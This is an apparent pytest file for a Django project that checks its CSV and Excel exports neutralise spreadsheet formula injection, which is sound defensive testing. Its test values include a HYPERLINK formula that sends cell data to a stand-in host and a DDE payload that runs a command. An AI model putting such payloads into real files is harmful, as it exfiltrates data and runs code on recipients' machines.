"""Text that a spreadsheet would run as a formula is written as text in every sheet we hand
out (the list export as CSV and Excel, the leaders' monthly workbook), and reads back as it
was typed."""

from __future__ import annotations

import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from taizhang.monitoring.metrics import Snapshot
from taizhang.monitoring.report import workbook
from taizhang.projects import imports
from taizhang.projects.models import AnnualPlan, Project

from .conftest import make_project

pytestmark = pytest.mark.django_db

EVIL = ['=HYPERLINK("http://evil.example/?d="&B2,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]


@pytest.fixture
def evil(world):
    return [make_project(world.ls_admin, world.laoshan, name, "100") for name in EVIL]


def test_the_csv_export_protects_formula_text_and_reads_back_unchanged(client, world, evil):
    client.force_login(world.ls_editor)
    data = b"".join(client.get("/projects/export.csv").streaming_content)
    text = data.decode("utf-8-sig")
    for name in EVIL:
        assert f"'{name}".replace('"', '""') in text
        assert f",{name}" not in text and f'"{name}' not in text
    preview = imports.read_projects(world.ls_editor, io.BytesIO(data), filename="export.csv", year=2026)
    by_name = {r.name: r.action for r in preview.rows}
    assert all(by_name[name] == "unchanged" for name in EVIL), by_name


def test_the_excel_export_writes_formula_text_as_text(client, world, evil):
    client.force_login(world.ls_editor)
    ws = load_workbook(io.BytesIO(client.get("/projects/export.xlsx").content)).active
    cells = {c.value: c.data_type for row in ws.iter_rows() for c in row if c.value in EVIL}
    assert cells == {name: "s" for name in EVIL}


def test_the_monthly_workbook_writes_formula_text_as_text(world, evil):
    for p in evil:
        AnnualPlan.objects.create(project=p, year=2026, planned_investment=Decimal("10"))
    snap = Snapshot(Project.objects.filter(region=world.laoshan), 2026, 10, today=dt.date(2026, 11, 20))
    ws = load_workbook(io.BytesIO(workbook(snap, "崂山区"))).active
    cells = {c.value: c.data_type for row in ws.iter_rows() for c in row if c.value in EVIL}
    assert cells == {name: "s" for name in EVIL}
